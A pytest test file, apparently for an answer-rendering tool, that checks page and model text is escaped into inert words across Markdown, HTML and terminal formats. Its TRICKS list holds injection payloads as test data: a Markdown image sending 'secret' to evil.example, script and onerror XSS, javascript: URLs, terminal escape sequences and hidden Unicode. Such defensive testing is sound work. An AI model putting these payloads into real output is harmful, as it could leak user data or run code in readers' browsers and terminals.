"""What pages and models write is shown as words: it cannot link, load, style, script or steer anything."""

from __future__ import annotations

import re
from html.parser import HTMLParser

import pytest
from hypothesis import example, given, settings
from hypothesis import strategies as st

from tamis.cli.terminal import escaped
from tamis.render.answer import escape_markdown, escape_table, markdown
from tamis.render.deficit import deficit_markdown
from tamis.render.formats import to_html, to_markdown, to_text
from tamis.render.references import references
from tamis.schema.evidence import Evidence
from tamis.schema.question import Interpretation
from tamis.schema.report import Answer, Deficit, Sentence
from tamis.text.unseen import UNSEEN, without_unseen

markdown_it = pytest.importorskip("markdown_it")

URL = "https://docs.example/page"
TRICKS = [
    "![x](https://evil.example/p.png?data=secret)",
    "[click here](https://evil.example/)",
    "[click][1]\n\n[1]: https://evil.example/",
    "<https://evil.example/>",
    "see https://evil.example/path_with_marks*and*more now",
    "see www.evil.example/x for more",
    "write to me@evil.example today",
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<a href='javascript:alert(1)'>x</a>",
    "&lt;script&gt;alert(1)&lt;/script&gt; &#x202e;",
    "`code` **bold** _thin_ ~~gone~~ # no heading",
    "# heading",
    "> quoted",
    "- item",
    "| a | b |\n|---|---|\n| <b>x</b> | [y](https://evil.example) |",
    "\x1b[31mred\x1b[0m \x1b]0;title\x07 \x1b]8;;https://evil.example\x07link\x1b]8;;\x07",
    "\u202egnp.exe\u202c and \u2066hidden\u2069 and \u200bzero",
    "\U000e0049\U000e0067\U000e006e tags \ud800 half \u2028 line",
    "\x9b31m C1 \x90 string \x9d0;t\x9c",
    "a\rb\x08\x08\x08c",
]


class Tags(HTMLParser):
    """The elements of a page, with links and sources."""

    def __init__(self, text: str) -> None:
        super().__init__()
        self.names: list[str] = []
        self.targets: list[str] = []
        self.feed(text)

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.names.append(tag)
        self.targets += [value or "" for name, value in attrs if name in ("href", "src", "srcdoc", "action")]
        assert not any(name.startswith("on") for name, _ in attrs)


def rendered(text: str) -> Tags:
    """Markdown as a reader of it shows it, tables and raw HTML switched on."""
    return Tags(markdown_it.MarkdownIt("commonmark", {"html": True}).enable("table").render(text))


def evidence(text: str, url: str = URL, title: str = "Title") -> Evidence:
    return Evidence("E1", title, url, "d", "d#c0", (0, len(text)), "", text, 0.8)


def answered(text: str, kind: str = "claim", url: str = URL, title: str = "Title") -> Answer:
    question = Interpretation(text, "qa", "general", "general")
    sentences = (Sentence(text, ("E1",), kind=kind),)
    shown = (evidence(text, url, title),)
    body, _ = markdown(sentences, shown)
    return Answer(text, question, "extractive", body, sentences, shown)


@pytest.mark.parametrize("trick", TRICKS)
@pytest.mark.parametrize("kind", ["claim", "step", "heading", "table", "code"])
def test_markdown_shows_words_and_its_own_references(trick, kind):
    page = rendered(to_markdown(answered(trick, kind, title=trick)))
    assert not {"script", "img", "iframe", "b", "style"} & set(page.names)
    assert all(target.startswith(URL) for target in page.targets), page.targets
    assert page.targets


@pytest.mark.parametrize("trick", TRICKS)
@pytest.mark.parametrize("kind", ["claim", "step", "heading", "table", "code"])
def test_html_shows_words_and_its_own_references(trick, kind):
    text = to_html(answered(trick, kind, title=trick))
    page = Tags(text)
    assert not {"script", "img", "iframe", "b"} & set(page.names)
    assert all(target.startswith((URL, "#r")) for target in page.targets), page.targets
    assert not UNSEEN.search(text)


@pytest.mark.parametrize("trick", TRICKS)
def test_nothing_steers_a_terminal(trick):
    assert not UNSEEN.search(escaped(to_text(answered(trick))))
    assert not UNSEEN.search(to_text(answered(trick)))
    assert not UNSEEN.search(to_markdown(answered(trick)))


@pytest.mark.parametrize(
    "url", ["javascript:alert(1)", "data:text/html,x", "JaVaScRiPt:x", "vbscript:x", "//evil.example", " https://x"]
)
def test_only_pages_and_files_are_linked(url):
    answer = answered("Bread is baked.", url=url)
    assert rendered(to_markdown(answer)).targets == []
    assert all(target.startswith("#r") for target in Tags(to_html(answer)).targets)
    assert references(answer.sentences, answer.evidence)[0].url == ""
    report = deficit_markdown(Deficit("Nothing.", closest_title="T", closest_url=url))
    assert rendered(report).targets == []


@given(st.text(max_size=80))
@example("\\[x](y)")
@example("a https://e.example/`b` c")
@example("https://e.example/x_y_ z@e.example")
@settings(max_examples=150, deadline=None)
def test_any_prose_becomes_words_only(text):
    page = rendered(f"Said: {escape_markdown(' '.join(text.split()))}")
    assert set(page.names) <= {"p", "code"} and page.targets == []


@given(st.lists(st.text(max_size=20), min_size=2, max_size=3), st.text(max_size=20))
@settings(max_examples=80, deadline=None)
def test_any_cell_becomes_words_only(cells, head):
    def cell(text: str) -> str:
        return " ".join(text.replace("\\", "").split()).replace("|", r"\|")

    rows = [" | ".join([cell(head)] * len(cells)), "|".join(["---"] * len(cells)), " | ".join(map(cell, cells))]
    page = rendered(escape_table("\n".join(f"| {row} |" for row in rows)))
    assert set(page.names) <= {"p", "table", "thead", "tbody", "tr", "th", "td", "code", "ul", "li", "hr"}
    assert page.targets == []


def test_words_and_numbers_in_tables_stay_readable():
    table = "| food | days |\n| --- | ---: |\n| **rice**, cooked | 3–4 |\n| a \\| b | `x` |"
    assert escape_table(table) == "| food | days |\n| --- | ---: |\n| rice, cooked | 3–4 |\n| a \\| b | x |"


def test_addresses_are_shown_as_code():
    assert (
        escape_markdown("Open http://localhost:8080/a_b, then log in.")
        == "Open `http://localhost:8080/a_b`, then log in."
    )


@given(st.text())
@settings(max_examples=150, deadline=None)
def test_what_nobody_sees_is_gone_and_the_rest_stays(text):
    kept = without_unseen(text)
    assert not UNSEEN.search(kept) and kept == re.sub(UNSEEN, "", text)
